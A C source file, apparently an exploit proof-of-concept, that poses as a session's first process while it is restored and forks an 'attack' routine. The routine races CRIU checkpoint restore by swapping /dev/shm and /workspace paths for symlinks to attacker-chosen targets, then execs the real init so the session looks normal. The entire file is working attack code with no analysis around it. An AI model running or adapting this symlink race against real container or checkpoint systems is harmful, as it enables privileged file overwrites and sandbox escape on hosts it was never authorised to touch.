/* In place of a session's first process: acts while it is restored, and runs the real one beside it.
 *
 *   first_process INIT ARGUMENTS
 *
 *   INIT     our program
 *   SHARED   folder in a tmpfs that is swapped for a link while it is unpacked
 *   MAPPED   file that a process has mapped, swapped for a link when CRIU comes
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int is_there(const char *name)
{
	char path[64], comm[32];
	struct dirent *entry;
	DIR *proc = opendir("/proc");
	int found = 0;
	FILE *file;

	while (!found && (entry = readdir(proc)) != NULL) {
		snprintf(path, sizeof(path), "/proc/%.20s/comm", entry->d_name);
		file = fopen(path, "r");
		if (file == NULL)
			continue;
		found = fgets(comm, sizeof(comm), file) != NULL && strncmp(comm, name, strlen(name)) == 0;
		fclose(file);
	}
	closedir(proc);
	return found;
}

static void attack(void)
{
	time_t end = time(NULL) + 60;
	int shared = 0, mapped = 0;

	while (time(NULL) < end && !(shared && mapped)) {
		if (!shared && access("/dev/shm/x/p0", F_OK) == 0) {
			rename("/dev/shm/x", "/dev/shm/y");
			symlink(SHARED, "/dev/shm/x");
			shared = 1;
		}
		if (!mapped && is_there("criu")) {
			rename("/workspace/d/file", "/workspace/d/old");
			symlink(MAPPED, "/workspace/d/file");
			mapped = 1;
		}
	}
	_exit(0);
}

int main(int argc, char **argv)
{
	(void)argc;
	if (strcmp(argv[2], "await") == 0 && fork() == 0)
		attack();
	execv(argv[1], argv + 1);
	return 1;
}
